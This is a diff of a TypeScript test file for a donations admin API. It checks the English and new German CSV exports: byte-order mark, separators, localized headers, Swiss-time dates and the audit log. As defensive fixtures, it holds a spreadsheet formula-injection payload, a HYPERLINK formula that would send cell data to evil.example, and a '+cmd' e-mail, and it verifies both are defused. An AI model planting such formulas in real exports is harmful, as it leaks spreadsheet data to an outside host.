@@ -1,6 +1,7 @@
 // The admin's Donations tab API: the ledger with its filters (date in Swiss time, project, currency,
 // kind, state) and pages, each gift's project ledger rows, totals per project, month and currency,
-// the monthly donors, the CSV export (quoting, formula injection, audited), the certificate
+// the monthly donors, the CSV export in both languages (byte-order mark, separator, headers,
+// project titles, Swiss time, quoting, formula injection, audited), the certificate
 // overview and runs; every route behind the admin credential (and CSRF for a session's changes),
 // bad filters a 400 naming the problem.
 import { test, before, after, describe } from 'node:test';
@@ -15,20 +16,24 @@ import type { DonationPage } from '../../models/giving/donations-admin';
 const ADMIN = { 'X-Admin-Key': 'demo-admin-key-change-me' };
 const BASE = '/api/admin/donations';
 
-/** A tiny RFC 4180 reader (quoted cells with commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
+/**
+ * A tiny RFC 4180 reader (quoted cells with separators, quotes and line breaks). The file must
+ * start with the UTF-8 byte-order mark (Excel reads UTF-8 only then).
+ */
+function parseCsv(text: string, separator: ',' | ';' = ','): string[][] {
+  assert.equal(text.charCodeAt(0), 0xfeff, 'the file starts with the byte-order mark');
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
   let quoted = false;
-  for (let i = 0; i < text.length; i++) {
+  for (let i = 1; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
       if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
       else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === separator) row.push(cell), (cell = '');
     else if (c === '\r' && text[i + 1] === '\n') {
       row.push(cell);
       rows.push(row);
@@ -235,21 +240,93 @@ describe('admin donations', () => {
     assert.equal(totals.creditedCents, 10_100);
   });
 
-  test('the CSV export: the filtered rows, quoted, formulas defused, and audited', async () => {
+  test('the CSV export in English: the filtered rows, byte-order mark, commas, Swiss time, quoted, formulas defused, and audited', async () => {
     const res = await request(h.app).get(`${BASE}.csv?from=2025-01-01`).set(ADMIN).expect(200);
     assert.match(res.headers['content-type']!, /^text\/csv; charset=utf-8/);
     assert.match(res.headers['content-disposition']!, /attachment; filename="?donations-\d{4}-\d{2}-\d{2}\.csv"?/);
     const rows = parseCsv(res.text);
-    assert.equal(rows[0]![0], 'date');
+    assert.deepEqual(rows[0], [
+      'Date (Swiss time)',
+      'Reference',
+      'Donor name',
+      'Donor e-mail',
+      'Project',
+      'Amount',
+      'Currency',
+      'Settled',
+      'Settled currency',
+      'Kind',
+      'Status',
+      'Refunded',
+      'Disputed',
+      'Dispute status',
+      'Credited (USD)',
+      'Stripe payment',
+    ]);
     assert.equal(rows.length, 7, 'header and six donations');
+    assert.ok(rows.every((r) => r.length === 16), 'sixteen cells in every row');
     const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
     assert.ok(evil, 'the e-mail starting with + is defused');
     assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
     assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'quoted per RFC 4180');
+    for (const cell of rows.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
     const anna = rows.find((r) => r[3] === 'anna@example.org')!;
-    assert.deepEqual([anna[5], anna[6], anna[7], anna[10], anna[11], anna[14]], ['100.00', 'CHF', '110.00', 'partially_refunded', '40.00', '66.00']);
+    // 09:00 UTC on 10 March 2025 is 10:00 in Switzerland (winter time).
+    assert.equal(anna[0], '2025-03-10 10:00');
+    assert.equal(anna[4], project.title);
+    assert.deepEqual([anna[5], anna[6], anna[7], anna[9], anna[10], anna[11], anna[14]], ['100.00', 'CHF', '110.00', 'One-off', 'Partially refunded', '40.00', '66.00']);
+    // 22:30 UTC on 31 March is already 1 April in Lucerne (summer time): Swiss time, not UTC.
+    const april = rows.find((r) => r[9] === 'Monthly')!;
+    assert.deepEqual([april[0], april[4]], ['2025-04-01 00:30', 'General Support']);
+    const lost = rows.find((r) => r[6] === 'EUR')!;
+    assert.deepEqual([lost[10], lost[13]], ['Disputed', 'lost']);
     const audit = (await listAudit(h.deps.db, { entity: 'donations' }))[0]!;
     assert.deepEqual([audit.action, audit.summary, audit.actor.startsWith('key:')], ['export', '6', true]);
+  });
+
+  test("the CSV export in German (the admin's lang=de): byte-order mark, semicolons, German headers, project titles and values, Swiss time, formulas defused", async () => {
+    const titleDe = ((await h.deps.db('projects').where({ id: project.id }).first('titleDe')) as { titleDe: string }).titleDe;
+    assert.ok(titleDe && titleDe !== project.title, 'the seeded project has its own German title');
+    const res = await request(h.app).get(`${BASE}.csv?from=2025-01-01&lang=de`).set(ADMIN).expect(200);
+    assert.match(res.headers['content-type']!, /^text\/csv; charset=utf-8/);
+    const rows = parseCsv(res.text, ';');
+    assert.deepEqual(rows[0], [
+      'Datum (Schweizer Zeit)',
+      'Referenz',
+      'Name',
+      'E-Mail',
+      'Projekt',
+      'Betrag',
+      'Währung',
+      'Abgerechnet',
+      'Abgerechnete Währung',
+      'Art',
+      'Status',
+      'Rückerstattet',
+      'Beanstandet',
+      'Status der Beanstandung',
+      'Gutgeschrieben (USD)',
+      'Stripe-Zahlung',
+    ]);
+    assert.equal(rows.length, 7);
+    assert.ok(rows.every((r) => r.length === 16), 'sixteen cells in every row, split at the semicolons');
+    const anna = rows.find((r) => r[3] === 'anna@example.org')!;
+    assert.equal(anna[0], '10.03.2025 10:00');
+    assert.equal(anna[4], titleDe, 'the German title of the project');
+    assert.deepEqual([anna[5], anna[6], anna[9], anna[10], anna[11], anna[14]], ['100.00', 'CHF', 'Einmalig', 'Teilweise rückerstattet', '40.00', '66.00']);
+    const april = rows.find((r) => r[9] === 'Monatlich')!;
+    assert.deepEqual([april[0], april[4]], ['01.04.2025 00:30', 'Allgemeine Unterstützung']);
+    const lost = rows.find((r) => r[6] === 'EUR')!;
+    assert.deepEqual([lost[10], lost[13]], ['Beanstandet', 'verloren']);
+    // The formula guard holds in German too.
+    const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
+    assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+    for (const cell of rows.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
+    // No English words in the German file.
+    assert.doesNotMatch(res.text, /General Support|Partially refunded|One-off|Swiss time/);
+    const unknown = await request(h.app).get(`${BASE}.csv?lang=english`).set(ADMIN);
+    assert.equal(unknown.status, 400);
+    assert.equal(unknown.body.code, 'bad_request');
   });
 
   test('monthly donors: active, paused, ended', async () => {
